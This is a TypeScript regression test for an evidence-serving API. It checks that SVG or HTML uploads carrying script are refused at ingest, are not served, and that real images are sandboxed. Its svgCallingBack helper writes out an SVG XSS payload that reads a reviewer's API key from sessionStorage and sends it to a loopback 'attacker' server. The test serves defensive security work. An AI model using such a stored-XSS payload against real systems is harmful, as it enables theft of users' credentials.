// Issue 12's finding, kept: an ingest key posted a case whose crop was an SVG with a <script>; the
// reviewer opened the signed evidence link and the script ran on the API's origin (it could read the
// reviewer's key from sessionStorage). Evidence is now accepted and served only as the raster types
// the product makes, by content, with nosniff and a sandboxing CSP. The script in these SVGs calls a
// loopback "attacker" server; a control serves the same SVG without the API to prove the call does
// happen when a script runs, so the test would see a regression.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import type { Browser, Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSurvey, addImage } from '../../api/survey/store.ts';
import { observation, startTestApi, storedEvidence, type TestApi } from '../support/api.ts';
import { openBrowserPage } from '../support/browser.ts';
import { freePort } from '../support/ports.ts';
import { samplePath } from '../support/samples.ts';

const KEY_STORAGE = 'cg.apiKey'; // api/web/common.js

let api: TestApi;
let base: string;
/** Ingest content checks off: as if the evidence was stored before they existed. */
let lax: TestApi;
let laxBase: string;
let browser: Browser;
let page: Page;
let attacker: Server;
let attackerUrl: string;
const calls: string[] = [];

const svgCallingBack = (tag: string) =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="red"/>` +
      `<script>fetch('${attackerUrl}/${tag}?key=' + encodeURIComponent(sessionStorage.getItem('${KEY_STORAGE}')), { mode: 'no-cors' }); document.title = 'ran ${tag}';</script></svg>`,
  );

beforeAll(async () => {
  attacker = createServer((req, res) => {
    if (req.url?.startsWith('/control.svg')) {
      res.writeHead(200, { 'content-type': 'image/svg+xml' }).end(svgCallingBack('control'));
      return;
    }
    calls.push(req.url ?? '');
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  api = await startTestApi({ kind: 'pglite' }, { now: () => new Date() });
  const port = await freePort();
  await api.app.listen({ port, host: '127.0.0.1' });
  base = `http://127.0.0.1:${port}`;
  lax = await startTestApi({ kind: 'pglite' }, { verifyEvidenceOnIngest: false, now: () => new Date() });
  const laxPort = await freePort();
  await lax.app.listen({ port: laxPort, host: '127.0.0.1' });
  laxBase = `http://127.0.0.1:${laxPort}`;
  ({ browser, page } = await openBrowserPage());
});
afterAll(async () => {
  await browser?.close();
  await api?.close();
  await lax?.close();
  await new Promise((resolve) => attacker?.close(resolve));
});

async function ingest(target: TestApi, item: Awaited<ReturnType<typeof storedEvidence>>) {
  return target.app.inject({ method: 'POST', url: '/v1/cases', headers: target.headers('ingest'), payload: observation({ evidence: [item] }) });
}

/** The reviewer's tab: signed in (key in sessionStorage) on the API origin. */
async function signedInTab(origin = base, key = api.keys.reviewer) {
  await page.goto(`${origin}/review/#key=${key}`);
  await page.locator('article.case, .empty, #queue').first().waitFor();
  expect(await page.evaluate((k) => sessionStorage.getItem(k), KEY_STORAGE)).toBe(key);
}

describe('script in evidence never runs on the API origin', () => {
  it('control: the same SVG served without the API runs its script and calls back (the test can see it)', async () => {
    await page.goto(`${attackerUrl}/control.svg`);
    await expect.poll(() => calls.filter((c) => c.startsWith('/control')).length).toBeGreaterThan(0);
    expect(await page.title()).toBe('ran control');
  });

  it('refuses an SVG at ingest, declared as SVG or disguised as JPEG, naming the item', async () => {
    const svg = await storedEvidence(api.objects, 'crop', svgCallingBack('ingest'));
    const declared = await ingest(api, { ...svg, contentType: 'image/svg+xml' });
    expect(declared.statusCode).toBe(400);
    expect(declared.json().message).toMatch(/contentType/);
    const disguised = await ingest(api, svg);
    expect(disguised.statusCode).toBe(415);
    expect(disguised.json()).toMatchObject({ error: 'evidence_type_refused', field: 'evidence.0.contentType' });
    expect(disguised.json().message).toBe(`body.evidence.0 (crop, ${svg.sha256}) is SVG, not JPEG, PNG, WebP or MP4 (checked by content)`);
    const html = await storedEvidence(api.objects, 'frame', Buffer.from('<!doctype html><script>alert(1)</script>'));
    expect((await ingest(api, html)).json().message).toMatch(/is HTML, not JPEG/);
    const png = await storedEvidence(api.objects, 'frame', await sharp({ create: { width: 4, height: 4, channels: 3, background: '#fff' } }).png().toBuffer());
    const mislabelled = await ingest(api, png);
    expect([mislabelled.statusCode, mislabelled.json().message]).toEqual([415, `body.evidence.0 (frame, ${png.sha256}) declares image/jpeg but its bytes are image/png`]);
    expect((await ingest(api, { ...png, contentType: 'image/png' })).statusCode).toBe(201);
    expect(await api.app.db.query('SELECT 1 FROM evidence WHERE sha256 = ANY($1)', [[svg.sha256, html.sha256]])).toEqual([]);
  });

  it('refuses to serve an SVG already stored as evidence: the signed link answers 415 and nothing runs', async () => {
    const svg = await storedEvidence(lax.objects, 'crop', svgCallingBack('stored'));
    const caseId = (await ingest(lax, svg)).json().caseId;
    const url = (await lax.app.inject({ method: 'GET', url: `/v1/cases/${caseId}`, headers: lax.headers('reviewer') })).json().evidence[0].url;
    const served = await lax.app.inject({ method: 'GET', url });
    expect(served.statusCode).toBe(415);
    expect(served.json().message).toBe(`evidence ${svg.sha256} of case ${caseId} is SVG, not JPEG, PNG, WebP or MP4; not served`);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    // The reviewer's signed-in tab clicks the link.
    await signedInTab(laxBase, lax.keys.reviewer);
    const response = await page.goto(`${laxBase}${url}`);
    expect(response!.status()).toBe(415);
    await page.waitForTimeout(500); // the control's call back arrives well within this
    expect(await page.title()).not.toContain('ran');
    expect(calls.filter((c) => c.startsWith('/stored'))).toEqual([]);
  });

  it('serves real evidence by its sniffed type with nosniff and a sandboxing CSP, and no script runs in it', async () => {
    const photo = await readFile(samplePath('darknet/dog.jpg'));
    const item = await storedEvidence(api.objects, 'frame', photo);
    const caseId = (await ingest(api, item)).json().caseId;
    const url = (await api.app.inject({ method: 'GET', url: `/v1/cases/${caseId}`, headers: api.headers('reviewer') })).json().evidence[0].url;
    const res = await api.app.inject({ method: 'GET', url });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    // A page opened from the link is sandboxed: an opaque origin that cannot run script or read storage.
    await signedInTab();
    await page.goto(`${base}${url}`);
    expect(await page.evaluate(() => window.origin)).toBe('null');
    await expect.poll(() => page.evaluate(() => document.images[0]?.naturalWidth)).toBe(768); // and still shows the picture
  });

  it('serves a stored PNG declared as JPEG as PNG: the bytes decide', async () => {
    const png = await storedEvidence(lax.objects, 'frame', await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } }).png().toBuffer());
    await ingest(lax, png);
    const res = await lax.app.inject({ method: 'GET', url: `/v1/evidence/${png.sha256}`, headers: lax.headers('reviewer') });
    expect([res.statusCode, res.headers['content-type']]).toEqual([200, 'image/png']);
  });

  it('refuses to serve a survey image whose stored bytes are not a raster image', async () => {
    const survey = await createSurvey(api.app.db, { name: 'east', flownAt: '2026-03-01T02:00:00Z' }, 'test', new Date());
    const svg = svgCallingBack('survey');
    const stored = await api.objects.put(svg, 'image/jpeg');
    await addImage(api.app.db, survey.id, { sha256: stored.sha256, key: stored.key, fileName: 'x.jpg', contentType: 'image/jpeg', bytes: svg.length, width: 40, height: 40, warnings: [] }, 'test', new Date());
    const detail = (await api.app.inject({ method: 'GET', url: `/v1/surveys/${survey.id}/images/${stored.sha256}`, headers: api.headers('reviewer') })).json();
    await signedInTab();
    const response = await page.goto(`${base}${detail.url}`);
    expect(response!.status()).toBe(415);
    expect(await response!.json()).toMatchObject({ error: 'image_type_refused', message: `image ${stored.sha256} of survey ${survey.id} is SVG, not JPEG, PNG, WebP or TIFF; not served` });
    await page.waitForTimeout(500);
    expect(calls.filter((c) => c.startsWith('/survey'))).toEqual([]);
  });
});
